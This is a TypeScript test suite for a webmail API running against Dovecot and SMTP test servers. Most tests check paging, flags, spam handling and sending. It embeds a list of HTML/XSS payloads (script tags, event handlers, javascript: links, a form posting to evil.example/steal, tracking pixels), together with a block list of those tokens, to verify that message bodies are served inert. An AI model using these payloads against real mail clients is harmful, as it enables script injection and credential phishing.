import { createHash, randomBytes } from 'node:crypto';
import type { EmailListItem, MailboxFolder, MailboxPage, MessageDetail } from '@app/shared/mailbox';
import type { RulesPreview } from '@app/shared/categories';
import { ImapFlow } from 'imapflow';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dovecotMissing, startDovecot, type Dovecot } from '../../../test/dovecot';
import { createTestApp, ORIGIN, type TestApp, type TestUser } from '../../../test/harness';
import { startSmtpServer, type TestSmtpServer } from '../../../test/smtp-server';

const skip = dovecotMissing();
if (skip) console.warn(skip);

const PASS = 'Mail-Pass-1';

function plain(n: number, extra = '') {
  const minute = String(n % 60).padStart(2, '0');
  return Buffer.from(
    `From: Client ${n} <client${n}@client.example>\r\nTo: owner@example.com, second@example.com\r\nSubject: Question ${n}\r\n` +
      `Message-ID: <q${n}@client.example>\r\nDate: Mon, 2 Nov 2026 10:${minute}:00 +0000\r\n${extra}\r\nHello number ${n}\r\n`,
  );
}

const HOSTILE = [
  '<p>Hi</p><script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<form action="https://evil.example/steal"><input name=p><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div style="background:url(https://tracker.example/bg.png);width:expression(alert(1))">css</div>',
  '<img src="https://tracker.example/pixel.gif" width=1 height=1>',
  '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<style>@import url(https://evil.example/x.css); body{background:url("https://tracker.example/b.png")}</style>',
].join('\n');

function htmlMessage() {
  return Buffer.from(
    'From: Marketing <news@shop.example>\r\nTo: owner@example.com\r\nSubject: Hostile newsletter\r\n' +
      'Message-ID: <hostile@shop.example>\r\nDate: Tue, 3 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n' +
      'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n' +
      '--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n' +
      HOSTILE +
      '\r\n--b1\r\nContent-Type: text/html; name="page.html"\r\nContent-Disposition: attachment; filename="r\u00e9sum\u00e9 page.html"\r\n' +
      'Content-Transfer-Encoding: base64\r\n\r\n' +
      Buffer.from('<script>alert("owned")</script>').toString('base64') +
      '\r\n--b1--\r\n',
  );
}

function multipart(fields: Record<string, string | string[]>, files: { name: string; type: string; content: Buffer }[] = []) {
  const boundary = `----test${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    for (const v of Array.isArray(value) ? value : [value]) {
      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v}\r\n`));
    }
  }
  for (const file of files) {
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="attachments"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`,
      ),
      file.content,
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

describe.skipIf(skip)('webmail /api/mailbox against Dovecot and an SMTP server', () => {
  let t: TestApp;
  let dovecot: Dovecot;
  let smtp: TestSmtpServer;
  let owner: TestUser;
  let other: TestUser;
  let box: string;
  let imap: ImapFlow;

  beforeAll(async () => {
    [t, dovecot, smtp] = await Promise.all([createTestApp(), startDovecot(), startSmtpServer()]);
    [owner, other] = [await t.signUp(), await t.signUp()];
    box = 'owner@example.com';
    await dovecot.addUser(box, PASS);
    smtp.addUser(box, PASS);
    const res = await t.call(owner, 'POST', '/api/email-settings', {
      provider: 'smtp',
      responseType: 0,
      isSyncEnabled: false,
      isClassificationEnabled: false,
      settings: {
        name: 'Owner Shop',
        host: 'localhost',
        port: smtp.port,
        user: box,
        pass: PASS,
        imapHost: 'localhost',
        imapPort: dovecot.port,
      },
    });
    expect(res.statusCode).toBe(201);
    imap = new ImapFlow({ host: '127.0.0.1', port: dovecot.port, secure: false, auth: { user: box, pass: PASS }, logger: false });
    await imap.connect();
    for (let n = 1; n <= 30; n++)
      await imap.append(
        'INBOX',
        plain(n, n === 30 ? 'References: <q28@client.example> <q29@client.example>\r\n' : ''),
        n <= 3 ? ['\\Seen'] : [],
      );
    await imap.append('INBOX', htmlMessage(), []);
  }, 60_000);
  afterAll(async () => {
    await imap?.logout().catch(() => undefined);
    await Promise.all([t?.close(), dovecot?.stop(), smtp?.stop()]);
  });

  const get = <T>(url: string, as: TestUser | null = owner) =>
    t.call(as, 'GET', url).then((r) => ({ res: r, body: r.json<T>() }));
  const page = async (folder = 'INBOX', n = 1, search = '') =>
    (
      await get<MailboxPage>(
        `/api/mailbox?folder=${encodeURIComponent(folder)}&page=${n}${search ? `&search=${encodeURIComponent(search)}` : ''}`,
      )
    ).body;
  const find = async (subject: string, folder = 'INBOX') => {
    for (let n = 1; n <= 3; n++) {
      const found = (await page(folder, n)).messages.find((m) => m.subject === subject);
      if (found) return found;
    }
    return undefined;
  };

  it('answers 401 before validating, and 404 to a user without a mailbox', async () => {
    expect((await t.call(null, 'GET', '/api/mailbox?page=-4')).statusCode).toBe(401);
    expect((await t.call(null, 'POST', '/api/mailbox/messages/flags', { uids: 'nonsense' })).statusCode).toBe(401);
    const none = await t.call(other, 'GET', '/api/mailbox');
    expect(none.statusCode).toBe(404);
    expect(none.json()).toMatchObject({ code: 'MAIL_ACCOUNT_MISSING' });
    expect((await t.call(owner, 'GET', `/api/mailbox?userId=${other.id}`)).statusCode).toBe(403);
  });

  it('lists folders as a tree with unread counts, special folders first', async () => {
    await imap.mailboxCreate('Clients/Acme');
    const { res, body } = await get<MailboxFolder[]>('/api/mailbox/folders');
    expect(res.statusCode).toBe(200);
    expect(body.map((f) => f.path).slice(0, 6)).toEqual(['INBOX', 'Sent', 'Drafts', 'Archive', 'Junk', 'Trash']);
    const inbox = body.find((f) => f.path === 'INBOX')!;
    expect(inbox).toMatchObject({ specialUse: '\\Inbox', status: { messages: 31, unseen: 28 } });
    const clients = body.find((f) => f.path === 'Clients');
    expect(clients?.children.map((c) => c.path)).toEqual(['Clients/Acme']);
    expect(clients?.children[0]).toMatchObject({ name: 'Acme', parentPath: 'Clients' });
  });

  it('previews which recent messages of the tracked folder a rules category would file, with the pipeline matcher', async () => {
    const preview = async (rules: object) =>
      (await t.call(owner, 'POST', '/api/mailbox/rules-preview', { rules })).json<RulesPreview>();
    const bySender = await preview({ from: { email: { operator: 'contains', values: ['client29', 'client30'] } } });
    expect(bySender).toMatchObject({ folder: 'INBOX', scanned: 31 });
    expect(bySender.matches.map((m) => m.subject).sort()).toEqual(['Question 29', 'Question 30']);
    // Any mode, and a body condition (bodies are read for it).
    const any = await preview({
      match: 'any',
      subject: { operator: 'equals', values: ['Question 7'] },
      body: { operator: 'contains', values: ['Hello number 12'] },
    });
    expect(any.matches.map((m) => m.subject).sort()).toEqual(['Question 12', 'Question 7']);
    const refused = await t.call(owner, 'POST', '/api/mailbox/rules-preview', {
      rules: { subject: { operator: 'near', values: ['x'] } },
    });
    expect(refused.statusCode).toBe(400);
  });

  it('pages a folder 25 at a time, newest first, with N of M figures and search', async () => {
    const first = await page();
    expect(first).toMatchObject({ total: 31, page: 1, pages: 2, from: 1, to: 25, emailsPerPage: 25 });
    expect(first.messages[0]!.subject).toBe('Hostile newsletter');
    expect(first.messages[1]).toMatchObject({ subject: 'Question 30', replyCount: 2, isUnread: true, isFlagged: false });
    expect(first.messages[1]!.to.value.map((a) => a.address)).toEqual(['owner@example.com', 'second@example.com']);
    const second = await page('INBOX', 2);
    expect(second).toMatchObject({ page: 2, from: 26, to: 31 });
    expect(second.messages.map((m) => m.subject)).toEqual([
      'Question 6',
      'Question 5',
      'Question 4',
      'Question 3',
      'Question 2',
      'Question 1',
    ]);
    expect(second.messages.at(-1)).toMatchObject({ isUnread: false });
    // The spec's name for the page works too.
    expect((await get<MailboxPage>('/api/mailbox?folder=INBOX&pageRange=2')).body.from).toBe(26);
    const found = await page('INBOX', 1, 'Question 1');
    expect(found.messages.map((m) => m.subject).sort()).toEqual(
      [
        'Question 1',
        'Question 10',
        'Question 11',
        'Question 12',
        'Question 13',
        'Question 14',
        'Question 15',
        'Question 16',
        'Question 17',
        'Question 18',
        'Question 19',
      ].sort(),
    );
    expect((await get('/api/mailbox?folder=Nope')).res.statusCode).toBe(404);
    expect((await get('/api/mailbox?page=0')).res.statusCode).toBe(400);
  });

  it('peeks at a message without marking it read, opens it (marking it read) and serves its body inert, with images only on consent', async () => {
    const row = (await find('Hostile newsletter'))!;
    const peeked = await get<MessageDetail>(`/api/mailbox/messages/${encodeURIComponent(row.uid)}?folder=INBOX&peek=1`);
    expect(peeked.body).toMatchObject({ subject: 'Hostile newsletter', isUnread: true });
    expect((await find('Hostile newsletter'))!.isUnread).toBe(true);
    expect((await get(`/api/mailbox/messages/${encodeURIComponent(row.uid)}?folder=INBOX&peek=yes`)).res.statusCode).toBe(400);
    const { res, body } = await get<MessageDetail>(`/api/mailbox/messages/${encodeURIComponent(row.uid)}?folder=INBOX`);
    expect(res.statusCode).toBe(200);
    expect(body).toMatchObject({
      subject: 'Hostile newsletter',
      from: { address: 'news@shop.example' },
      isUnread: false,
      hasHtml: true,
      hasRemoteImages: true,
    });
    expect(body.attachments).toEqual([
      expect.objectContaining({ index: 0, filename: 'résumé page.html', contentType: 'text/html' }),
    ]);
    expect((await find('Hostile newsletter'))!.isUnread).toBe(false);

    const html = await t.call(owner, 'GET', `/api/mailbox/messages/${encodeURIComponent(row.uid)}/body?folder=INBOX`);
    expect(html.statusCode).toBe(200);
    expect(html.headers['content-type']).toContain('text/html');
    const csp = String(html.headers['content-security-policy']);
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain('sandbox');
    expect(csp).not.toContain('script-src');
    expect(csp).toMatch(/img-src data:;/);
    expect(html.headers['x-content-type-options']).toBe('nosniff');
    for (const bad of [
      '<script',
      'onerror',
      'onload',
      'javascript:',
      '<form',
      '<input',
      '<meta',
      '<iframe',
      '<object',
      '<embed',
      'expression(',
      '@import',
      'tracker.example',
      'evil.example',
    ]) {
      expect(html.body.split('<body>')[1]!.toLowerCase()).not.toContain(bad);
    }
    expect(html.body).toContain('<p>Hi</p>');

    const allowed = await t.call(owner, 'GET', `/api/mailbox/messages/${encodeURIComponent(row.uid)}/body?folder=INBOX&images=1`);
    expect(allowed.body).toContain('https://tracker.example/pixel.gif');
    expect(String(allowed.headers['content-security-policy'])).toContain('img-src data: https: http:');
    expect(allowed.body).not.toContain('<script');

    // Another user cannot read it: their session opens their own (absent) mailbox.
    expect((await t.call(other, 'GET', `/api/mailbox/messages/${encodeURIComponent(row.uid)}?folder=INBOX`)).statusCode).toBe(
      404,
    );
    expect((await get(`/api/mailbox/messages/${encodeURIComponent('1:999999')}?folder=INBOX`)).res.statusCode).toBe(404);
  });

  it('downloads attachments as attachments, with the filename and nosniff, never as HTML', async () => {
    const row = (await find('Hostile newsletter'))!;
    const res = await t.call(owner, 'GET', `/api/mailbox/messages/${encodeURIComponent(row.uid)}/attachments/0?folder=INBOX`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="r_sum_ page.html"; filename*=UTF-8''r%C3%A9sum%C3%A9%20page.html`,
    );
    expect(res.headers['content-type']).toBe('application/octet-stream');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.body).toBe('<script>alert("owned")</script>');
    expect(
      (await t.call(owner, 'GET', `/api/mailbox/messages/${encodeURIComponent(row.uid)}/attachments/7?folder=INBOX`)).statusCode,
    ).toBe(404);
  });

  it('streams the attachments of a message never opened, straight from the IMAP server, byte for byte', async () => {
    const big = randomBytes(4 * 1024 * 1024);
    const raw =
      'From: Supplier <sales@supplier.example>\r\nTo: owner@example.com\r\nSubject: Catalogue attached\r\n' +
      'Message-ID: <catalogue@supplier.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="cut"\r\n\r\n' +
      '--cut\r\nContent-Type: text/plain\r\n\r\nThe catalogue and the price list.\r\n' +
      '--cut\r\nContent-Type: application/pdf; name="catalogue.pdf"\r\nContent-Disposition: attachment; filename="catalogue.pdf"\r\n' +
      `Content-Transfer-Encoding: base64\r\n\r\n${big.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n` +
      '--cut\r\nContent-Type: text/csv; name="prices.csv"\r\nContent-Disposition: attachment; filename="prices.csv"\r\n\r\nsku,price\r\nA1,10\r\n' +
      '--cut--\r\n';
    await imap.append('INBOX', Buffer.from(raw), []);
    const row = (await find('Catalogue attached'))!;
    const url = (index: number) => `/api/mailbox/messages/${encodeURIComponent(row.uid)}/attachments/${index}?folder=INBOX`;

    const pdf = await t.call(owner, 'GET', url(0));
    expect(pdf.statusCode).toBe(200);
    expect(pdf.headers['content-disposition']).toContain('filename="catalogue.pdf"');
    expect(pdf.headers['x-content-type-options']).toBe('nosniff');
    expect(createHash('sha256').update(pdf.rawPayload).digest('hex')).toBe(createHash('sha256').update(big).digest('hex'));
    const csv = await t.call(owner, 'GET', url(1));
    expect(csv.headers['content-disposition']).toContain('filename="prices.csv"');
    expect(csv.body).toBe('sku,price\r\nA1,10');
    expect((await t.call(owner, 'GET', url(2))).statusCode).toBe(404);
    expect((await t.call(other, 'GET', url(0))).statusCode).toBe(404);
    expect((await find('Catalogue attached'))!.isUnread).toBe(true);
  });

  it('sets and clears flags (star, read, unread) with `flags` or `flag`', async () => {
    const row = (await find('Question 20'))!;
    const star = await t.call(owner, 'POST', '/api/mailbox/messages/flags', {
      uids: [row.uid],
      folder: 'INBOX',
      flags: ['\\Flagged', '\\Seen'],
    });
    expect(star.statusCode).toBe(200);
    expect(await find('Question 20')).toMatchObject({ isFlagged: true, isUnread: false });
    await t.call(owner, 'DELETE', '/api/mailbox/messages/flags', { uids: [row.uid], folder: 'INBOX', flag: '\\Seen' });
    expect(await find('Question 20')).toMatchObject({ isFlagged: true, isUnread: true });
    const bad = await t.call(owner, 'POST', '/api/mailbox/messages/flags', { uids: [row.uid], flags: ['\\Bogus'] });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ message: 'inbox.validation.unknownFlag' });
    expect((await t.call(owner, 'POST', '/api/mailbox/messages/flags', { uids: [], flags: ['\\Seen'] })).statusCode).toBe(400);
  });

  it('marks spam (\\Seen $Junk Junk then Junk) and deletes to Trash, then for good from Trash', async () => {
    const spam = (await find('Question 21'))!;
    const moved = await t.call(owner, 'POST', '/api/mailbox/messages/move/INBOX/Junk', {
      uids: [spam.uid],
      flags: ['\\Seen', '$Junk', 'Junk'],
    });
    expect(moved.statusCode).toBe(200);
    expect(await find('Question 21')).toBeUndefined();
    const inJunk = (await page('Junk')).messages.find((m) => m.subject === 'Question 21')!;
    expect(inJunk.isUnread).toBe(false);
    const lock = await imap.getMailboxLock('Junk');
    try {
      const fetched = await imap.fetchOne('*', { flags: true });
      expect(fetched && [...(fetched.flags ?? [])].sort()).toEqual(['$Junk', 'Junk', '\\Seen']);
    } finally {
      lock.release();
    }

    const doomed = (await find('Question 22'))!;
    expect(
      (await t.call(owner, 'POST', '/api/mailbox/messages/flags', { uids: [doomed.uid], folder: 'INBOX', flag: '\\Deleted' }))
        .statusCode,
    ).toBe(200);
    const trashed = (await page('Trash')).messages.find((m) => m.subject === 'Question 22')!;
    expect(trashed).toMatchObject({ isUnread: false });
    await t.call(owner, 'POST', '/api/mailbox/messages/move/Trash/Trash', { uids: [trashed.uid], flags: [] });
    expect((await page('Trash')).messages.find((m) => m.subject === 'Question 22')).toBeUndefined();

    expect((await t.call(owner, 'POST', '/api/mailbox/messages/move/INBOX/Nowhere', { uids: [spam.uid] })).statusCode).toBe(404);
  });

  it("shows the likely-spam mark and takes the owner's Not spam: mark cleared, sender remembered, Junk back to the inbox", async () => {
    await imap.append(
      'INBOX',
      plain(41).toString().replace('Client 41 <client41@client.example>', 'Promo <deals@promo.example>'),
      ['$Junk'],
    );
    const marked = (await find('Question 41'))!;
    expect(marked.likelySpam).toBe(true);
    expect((await find('Question 29'))!.likelySpam).toBe(false);
    const opened = await get<MessageDetail>(`/api/mailbox/messages/${encodeURIComponent(marked.uid)}?folder=INBOX&peek=1`);
    expect(opened.body.likelySpam).toBe(true);

    const res = await t.call(owner, 'POST', '/api/mailbox/messages/not-spam/INBOX', { uids: [marked.uid] });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ success: true, movedTo: null });
    expect((await find('Question 41'))!.likelySpam).toBe(false);
    const lock = await imap.getMailboxLock('INBOX');
    try {
      const fetched = await imap.fetchOne(marked.uid.split(':')[1]!, { flags: true }, { uid: true });
      expect(fetched && [...(fetched.flags ?? [])]).toContain('$NotJunk');
      expect(fetched && [...(fetched.flags ?? [])]).not.toContain('$Junk');
    } finally {
      lock.release();
    }
    const senders = await t.database.query<{ address: string }>('SELECT address FROM mail_not_spam_sender ORDER BY address');
    expect(senders.map((r) => r.address)).toEqual(['deals@promo.example']);

    // From the Junk folder (the previous test put Question 21 there), the message goes back to the inbox.
    const inJunk = (await page('Junk')).messages.find((m) => m.subject === 'Question 21')!;
    expect(inJunk.likelySpam).toBe(true);
    const back = await t.call(owner, 'POST', '/api/mailbox/messages/not-spam/Junk', { uids: [inJunk.uid] });
    expect(back.json()).toEqual({ success: true, movedTo: 'INBOX' });
    expect(await find('Question 21')).toMatchObject({ likelySpam: false });

    expect((await t.call(owner, 'POST', '/api/mailbox/messages/not-spam/INBOX', { uids: [] })).statusCode).toBe(400);
    expect((await t.call(owner, 'POST', '/api/mailbox/messages/not-spam/Nowhere', { uids: ['1:1'] })).statusCode).toBe(404);
  });

  it('sends with attachments and threading headers, keeps a copy in Sent and marks the original answered', async () => {
    const original = (await find('Question 23'))!;
    const form = multipart(
      {
        to: 'client23@client.example',
        cc: 'Second@Example.com',
        bbc: 'hidden@example.com',
        subject: 'Re: Question 23',
        body: 'Here is the answer.\n\n> Hello number 23',
        inReplyTo: '<q23@client.example>',
        references: '<q23@client.example>',
        replyToUid: original.uid,
        replyToFolder: 'INBOX',
      },
      [{ name: 'quote.pdf', type: 'application/pdf', content: Buffer.from('%PDF-1.4 fake') }],
    );
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/mailbox/messages/send',
      headers: { ...ORIGIN, cookie: owner.cookie, 'content-type': form.contentType },
      payload: form.payload,
    });
    expect(res.statusCode, res.body).toBe(200);
    const { messageId } = res.json<{ messageId: string }>();
    const mail = smtp.received.at(-1)!;
    expect(mail.to.sort()).toEqual(['client23@client.example', 'hidden@example.com', 'second@example.com']);
    expect(mail.raw).toContain('In-Reply-To: <q23@client.example>');
    expect(mail.raw).toContain('References: <q23@client.example>');
    expect(mail.raw).toContain('filename=quote.pdf');
    expect(mail.raw).not.toMatch(/^Bcc:/im);
    expect(mail.raw).toContain('From: Owner Shop <owner@example.com>');

    const sent = (await page('Sent')).messages.find((m) => m.messageId === messageId);
    expect(sent).toMatchObject({ subject: 'Re: Question 23', hasAttachments: true });
    const lock = await imap.getMailboxLock('INBOX');
    try {
      const uid = Number(original.uid.split(':')[1]);
      const fetched = await imap.fetchOne(String(uid), { flags: true }, { uid: true });
      expect(fetched && fetched.flags?.has('\\Answered')).toBe(true);
    } finally {
      lock.release();
    }
  });

  it("forwards with the original's attachments", async () => {
    const original = (await find('Hostile newsletter'))!;
    const res = await t.call(owner, 'POST', '/api/mailbox/messages/send', {
      to: ['partner@example.com'],
      subject: 'Fwd: Hostile newsletter',
      body: 'See below',
      forwardUid: original.uid,
      forwardFolder: 'INBOX',
    });
    expect(res.statusCode, res.body).toBe(200);
    const mail = smtp.received.at(-1)!;
    expect(mail.to).toEqual(['partner@example.com']);
    expect(mail.raw).toContain('PHNjcmlwdD5hbGVydCgib3duZWQiKTwvc2NyaXB0Pg=='); // the attachment, base64
    expect(mail.raw).toMatch(/filename\*?=?.*r=C3=A9sum=C3=A9|filename\*0\*?=utf-8''r%C3%A9sum%C3%A9/i);
  });

  it('sends plain JSON without attachments, and refuses what spec 02 §5 refuses', async () => {
    const ok = await t.call(owner, 'POST', '/api/mailbox/messages/send', { to: ['a@b.example'], subject: 'Hi', body: 'Text' });
    expect(ok.statusCode, ok.body).toBe(200);
    const cases: [object, string][] = [
      [{ to: [], subject: 'x', body: 'y' }, 'inbox.validation.recipientRequired'],
      [{ to: ['nope'], subject: 'x', body: 'y' }, 'inbox.validation.invalidRecipient'],
      [{ to: ['a@b.example'], cc: ['bad'], subject: 'x', body: 'y' }, 'inbox.validation.invalidRecipient'],
      [{ to: ['a@b.example'], subject: ' ', body: 'y' }, 'inbox.validation.subjectRequired'],
      [{ to: ['a@b.example'], subject: 'x', body: '  ' }, 'inbox.validation.messageRequired'],
    ];
    for (const [body, message] of cases) {
      const res = await t.call(owner, 'POST', '/api/mailbox/messages/send', body);
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ message });
    }
  });

  it('refuses attachments past 25 MB in total with 413 before reading them all', async () => {
    const big = Buffer.alloc(13 * 1024 * 1024, 1);
    const form = multipart({ to: 'a@b.example', subject: 'Big', body: 'x' }, [
      { name: 'a.bin', type: 'application/octet-stream', content: big },
      { name: 'b.bin', type: 'application/octet-stream', content: big },
    ]);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/mailbox/messages/send',
      headers: { ...ORIGIN, cookie: owner.cookie, 'content-type': form.contentType },
      payload: form.payload,
    });
    expect(res.statusCode).toBe(413);
    expect(res.json()).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', message: 'inbox.validation.attachmentsTooLarge' });
    const sentBefore = smtp.received.length;
    expect(smtp.received.length).toBe(sentBefore);
  });

  it('saves a draft into Drafts', async () => {
    const res = await t.call(owner, 'POST', '/api/mailbox/messages/draft', { to: [], subject: 'Half written', body: '' });
    expect(res.statusCode, res.body).toBe(200);
    const drafts = (await page('Drafts')).messages;
    expect(drafts.map((m: EmailListItem) => m.subject)).toContain('Half written');
  });

  it('follows the account: a disconnected mailbox is not read from its pooled connection, and the one connected next is', async () => {
    const user = await t.signUp();
    const connect = async (address: string, subject: string) => {
      await dovecot.addUser(address, PASS);
      smtp.addUser(address, PASS);
      const seed = new ImapFlow({
        host: '127.0.0.1',
        port: dovecot.port,
        secure: false,
        auth: { user: address, pass: PASS },
        logger: false,
      });
      await seed.connect();
      await seed.append('INBOX', Buffer.from(`From: a@client.example\r\nTo: ${address}\r\nSubject: ${subject}\r\n\r\nHi\r\n`));
      await seed.logout();
      const res = await t.call(user, 'POST', '/api/email-settings', {
        provider: 'smtp',
        responseType: 0,
        isSyncEnabled: false,
        isClassificationEnabled: false,
        settings: {
          name: 'Box',
          host: 'localhost',
          port: smtp.port,
          user: address,
          pass: PASS,
          imapHost: 'localhost',
          imapPort: dovecot.port,
        },
      });
      expect(res.statusCode, res.body).toBe(201);
    };
    const subjects = async () => {
      const res = await t.call(user, 'GET', '/api/mailbox?folder=INBOX');
      expect(res.statusCode, res.body).toBe(200);
      return res.json<MailboxPage>().messages.map((m) => m.subject);
    };
    await connect('first-box@example.com', 'For the first box');
    expect(await subjects()).toEqual(['For the first box']);
    const [opened] = (await t.call(user, 'GET', '/api/mailbox?folder=INBOX').then((r) => r.json<MailboxPage>())).messages;

    expect((await t.call(user, 'DELETE', '/api/email-settings')).statusCode).toBe(200);
    const gone = await t.call(user, 'GET', '/api/mailbox?folder=INBOX');
    expect(gone.statusCode).toBe(404);
    expect(gone.json()).toMatchObject({ code: 'MAIL_ACCOUNT_MISSING' });
    expect((await t.call(user, 'GET', `/api/mailbox/messages/${encodeURIComponent(opened!.uid)}?folder=INBOX`)).statusCode).toBe(
      404,
    );

    await connect('second-box@example.com', 'For the second box');
    expect(await subjects()).toEqual(['For the second box']);
  });
});
